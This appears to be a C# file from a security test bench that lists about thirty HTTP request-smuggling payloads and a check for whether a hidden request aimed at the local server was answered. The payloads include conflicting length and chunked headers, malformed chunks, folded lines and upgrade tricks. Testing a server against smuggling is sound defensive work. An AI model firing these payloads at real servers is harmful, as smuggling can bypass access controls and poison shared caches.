using System.Text;

namespace Elysia.Bench.Attack.Attackers;

/// <summary>A request whose end is ambiguous, so that servers disagree on it, with a second request hidden in the
/// difference.</summary>
/// <param name="Name">The special property of the request.</param>
/// <param name="Text">The bytes; {port} stands for the port.</param>
internal sealed record SmugglingShape(string Name, string Text)
{
    // The answer to the hidden request is unmistakable: no other answer holds these words.
    private const string Hidden = "GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n";
    private const string Witness = "\"uptime_seconds\"";
    private const string Post = "POST / HTTP/1.1\r\nHost: 127.0.0.1\r\n";
    private const string Get = "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n";
    private const string Upgrade = Get + "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
        + "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n";

    private static readonly string HiddenLength = $"{Hidden.Length}";

    /// <summary>All shapes.</summary>
    public static IReadOnlyList<SmugglingShape> All { get; } =
    [
        new("length and chunks", $"{Post}Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{Hidden}"),
        new("chunks and length", $"{Post}Transfer-Encoding: chunked\r\nContent-Length: {HiddenLength}\r\n\r\n0\r\n\r\n{Hidden}"),
        new("two lengths", $"{Post}Content-Length: 0\r\nContent-Length: {HiddenLength}\r\n\r\n{Hidden}"),
        new("two lengths, the other way", $"{Post}Content-Length: {HiddenLength}\r\nContent-Length: 0\r\n\r\n{Hidden}"),
        new("two lengths in one line", $"{Post}Content-Length: 0, {HiddenLength}\r\n\r\n{Hidden}"),
        new("length with a sign", $"{Post}Content-Length: +0\r\n\r\n{Hidden}"),
        new("length below zero", $"{Post}Content-Length: -1\r\n\r\n{Hidden}"),
        new("length in hex", $"{Post}Content-Length: 0x0\r\n\r\n{Hidden}"),
        new("length beyond 64 bits", $"{Post}Content-Length: 18446744073709551616\r\n\r\n{Hidden}"),
        new("length on GET", $"{Get}Content-Length: 5\r\n\r\n12345{Hidden}"),
        new("space before the colon", $"{Post}Content-Length : 0\r\nContent-Length: {HiddenLength}\r\n\r\n{Hidden}"),
        new("folded line", $"{Post}X: a\r\n Content-Length: {HiddenLength}\r\nContent-Length: 0\r\n\r\n{Hidden}"),
        new("folded coding", $"{Post}Transfer-Encoding:\r\n chunked\r\nContent-Length: 0\r\n\r\n0\r\n\r\n{Hidden}"),
        new("two codings", $"{Post}Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{Hidden}"),
        new("coding misspelt", $"{Post}Transfer-Encoding: xchunked\r\nContent-Length: 0\r\n\r\n{Hidden}"),
        new("coding with a tab", $"{Post}Transfer-Encoding:\tchunked\r\nContent-Length: 0\r\n\r\n0\r\n\r\n{Hidden}"),
        new("chunk of no number", $"{Post}Transfer-Encoding: chunked\r\n\r\nzz\r\n\r\n{Hidden}"),
        new("chunk below zero", $"{Post}Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n{Hidden}"),
        new("chunk beyond 64 bits", $"{Post}Transfer-Encoding: chunked\r\n\r\n10000000000000000\r\n{Hidden}"),
        new("chunk with an extension", $"{Post}Transfer-Encoding: chunked\r\n\r\n0;a=\"\r\n\r\n\"\r\n\r\n{Hidden}"),
        new("chunk ended by a line feed", $"{Post}Transfer-Encoding: chunked\r\n\r\n0\n\n{Hidden}"),
        new("trailers", $"{Post}Transfer-Encoding: chunked\r\n\r\n0\r\nContent-Length: 5\r\n\r\n{Hidden}"),
        new("carriage return alone", $"{Post}Content-Length: 0\rX: y\r\n\r\n{Hidden}"),
        new("zero byte in a line", $"{Post}Content-Length: 0\0\r\n\r\n{Hidden}"),
        new("line feeds alone", $"{Post.Replace("\r\n", "\n", StringComparison.Ordinal)}Content-Length: 0\n\n{Hidden}"),
        new("pipelined", $"{Get}\r\n{Hidden}{Hidden}"),
        new("pipelined behind a refusal", $"GET /nowhere HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n{Hidden}"),
        new("pipelined behind an upgrade", $"{Upgrade}\r\n{Hidden}"),
        new("upgrade with a length", $"{Upgrade}Content-Length: {HiddenLength}\r\n\r\n{Hidden}"),
        new("upgrade with chunks", $"{Upgrade}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{Hidden}"),
        new("upgrade refused", $"{Upgrade.Replace("Version: 13", "Version: 12", StringComparison.Ordinal)}\r\n{Hidden}"),
        new("upgrade twice", $"{Upgrade}\r\n{Upgrade}\r\n{Hidden}"),
    ];

    /// <summary>Whether HttpListener itself refuses the request (501) and then reads on: on the plain path, where
    /// nothing stops it, the hidden request is sometimes answered.</summary>
    public bool IsReadOn => Text.StartsWith(Post, StringComparison.Ordinal)
        && (Name is "two codings" or "coding misspelt" or "folded coding" or "coding with a tab");

    /// <summary>Returns the bytes for a port.</summary>
    public byte[] Bytes(int port) => Encoding.Latin1.GetBytes(Text.Replace("{port}", $"{port}", StringComparison.Ordinal));

    /// <summary>Whether the hidden request was answered, or there was more than one answer.</summary>
    /// <param name="answer">All bytes received.</param>
    public bool IsSmuggled(byte[] answer)
    {
        string text = Encoding.Latin1.GetString(answer);
        int first = text.IndexOf("HTTP/1.", StringComparison.Ordinal);
        return text.Contains(Witness, StringComparison.Ordinal)
            || (first >= 0 && text.IndexOf("HTTP/1.", first + 1, StringComparison.Ordinal) >= 0);
    }

    /// <summary>Returns the status of an answer, in the form in which it is counted.</summary>
    public static string StatusOf(byte[] answer)
    {
        string text = Encoding.Latin1.GetString(answer, 0, Math.Min(answer.Length, 16));
        return text.StartsWith("HTTP/1.", StringComparison.Ordinal) && text.Length >= 12 ? $"HTTP {text[9..12]}" : "cut";
    }
}
